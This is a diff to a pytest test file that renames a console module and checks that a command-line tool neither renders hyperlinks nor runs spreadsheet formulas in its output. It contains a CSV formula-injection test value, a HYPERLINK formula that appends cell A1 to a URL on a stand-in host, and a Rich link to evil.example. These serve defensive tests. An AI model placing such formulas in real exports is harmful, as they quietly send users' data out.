@@ -12,7 +12,7 @@ import pytest
 from conftest import cli, frame, parcel, rect
 from rich.console import Console
 
-from terreinen import _cli, validate
+from terreinen import _screen, validate
 
 FORMULA = '=HYPERLINK("http://x/?"&A1,"Klik")'
 LINK = "[link=https://evil.example]Broeklanden[/link]"
@@ -107,14 +107,14 @@ def test_csv_to_the_screen_keeps_formulas_as_text(tmp_path):
 @pytest.fixture
 def terminal(monkeypatch):
     """The command line's consoles as on a colour terminal (where links would be drawn)."""
-    for console in (_cli.out, _cli.err):
+    for console in (_screen.out, _screen.err):
         monkeypatch.setattr(console, "_force_terminal", True)
         monkeypatch.setattr(console, "_color_system", console._detect_color_system())
         monkeypatch.setattr(console, "_width", 10_000)  # cells whole, not wrapped
 
 
 def test_the_terminal_fixture_would_show_a_link(terminal, capsys):
-    _cli.out.print(LINK)  # markup, as printing data used to be
+    _screen.out.print(LINK)  # markup, as printing data used to be
     assert OSC8 in capsys.readouterr().out
 
 
@@ -429,5 +429,5 @@ def test_colliding_municipality_names_get_distinct_maps(tmp_path):
 
 
 def test_rich_console_used_for_data_is_plain():
-    assert not _cli.out._emoji and not _cli.err._emoji
-    assert isinstance(_cli.out, Console)
+    assert not _screen.out._emoji and not _screen.err._emoji
+    assert isinstance(_screen.out, Console)
